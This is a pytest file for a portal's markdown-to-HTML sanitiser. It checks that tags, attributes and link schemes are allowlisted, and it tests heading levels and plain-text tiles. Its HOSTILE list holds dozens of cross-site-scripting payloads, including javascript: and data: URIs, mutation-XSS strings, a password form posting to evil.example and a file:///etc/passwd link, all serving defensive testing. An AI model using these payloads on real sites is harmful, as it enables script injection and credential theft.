"""Pam writes what she likes; Carl's browser runs none of it."""

import re
from html.parser import HTMLParser

import pytest

from portal import markdown
from portal.markdown import ATTRIBUTES, PLAIN_MOST, TAGS, to_html, to_plain

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    "[x](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x](https://ok.example \"'\\\" onmouseover='alert(1)\")",
    "![x](https://evil.example/pixel.png)",
    "![<b onclick=alert(1)>](x)",
    '![" onerror="alert(1)](https://evil.example/x.png)',
    "![![a](b)](javascript:alert(1))",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "```<script>\nalert(1)\n```",
    '```" onmouseover="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "1. <details open ontoggle=alert(1)>",
    '[x](//evil.example/"><script>alert(1)</script>)',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "[x](/t/acme/apps/)",
    "[x](//evil.example/)",
    "<" * 2_000 + "script>",
    "[" * 2_000,
    "> " * 500 + "deep",
    "*" * 4_000,
]  # fmt: skip
SAFE_LINK = re.compile(r"https?://|mailto:")


class Page(HTMLParser):
    """What a browser makes of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_that_pam_writes_runs_loads_or_leads_astray(text: str) -> None:
    for source in (text, f"A word before.\n\n{text}\n\nAnd *after*.", f"- {text}", f"> {text}"):
        for tag, attributes in Page(to_html(source)).tags:
            assert tag in TAGS, tag
            extra = {"a": {"rel"}, "pre": {"tabindex"}}.get(tag, set())
            assert set(attributes) <= ATTRIBUTES.get(tag, set()) | extra, attributes
            if "href" in attributes:
                assert SAFE_LINK.match(str(attributes["href"])), attributes


def test_the_second_lock_holds_without_the_first(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(markdown._commonmark.options, "html", True)
    to_html.cache_clear()
    made = to_html("<script>alert(1)</script><b onclick=alert(1)>x</b> <a href=javascript:alert(1)>y</a>\n\n<img src=//evil.example/x>")
    to_html.cache_clear()
    assert not re.search(r"script|onclick|img", made), made


def test_what_is_meant_well_is_drawn() -> None:
    made = to_html("Read **this** `code`.\n\n- one\n- two\n\n[Docs](https://docs.example/a?b=1&c=2)\n\n```json\n{}\n```\n\n|a|\n|-|\n|b|")
    assert "<strong>this</strong> <code>code</code>" in made
    assert "<li>one</li>" in made
    assert '<a href="https://docs.example/a?b=1&amp;c=2" rel="noopener nofollow">Docs</a>' in made
    assert re.search(r'<pre tabindex="0"><code>\{\}\n</code></pre>', made)
    assert "<td>b</td>" in made


def test_an_image_becomes_what_it_shows() -> None:
    assert to_html("![The **flow**](https://evil.example/x.png)") == "<p>The **flow**</p>\n"


def test_headings_begin_below_the_pages_and_skip_no_level() -> None:
    source = "### Deep first\n\n# Top\n\n#### Four\n\n## Two\n\n###### Six"
    assert re.findall(r"<(h\d)", to_html(source)) == ["h2", "h2", "h3", "h3", "h4"]
    assert re.findall(r"<(h\d)", to_html(source, below=3)) == ["h4", "h4", "h5", "h5", "h6"]


@pytest.mark.parametrize(
    "text,plain",
    [
        ("Create, **pay** and [follow](https://x.example) `orders`.\nAcross shops.", "Create, pay and follow orders. Across shops."),
        ("# Orders\n\nWhat was ordered.", "What was ordered."),
        ("# Orders", "Orders"),
        ("", ""),
        ("![A flow](x.png) of <b>orders</b>", "A flow of <b>orders</b>"),
        ("- one\n- two", "one"),
        ("First\nparagraph.\n\nSecond.", "First paragraph."),
        ("*First* paragraph.\n\nSecond.", "First paragraph."),
        ("```\ncode\n```", "code"),
        ("&amp; &lt;", "& <"),
    ],
)
def test_a_tile_tells_it_in_plain_text(text: str, plain: str) -> None:
    assert to_plain(text) == plain


def test_a_tile_is_short_whatever_it_is_given() -> None:
    assert len(to_plain("word " * 1_000)) <= PLAIN_MOST + 1
    assert to_plain("word " * 1_000).endswith("word…")
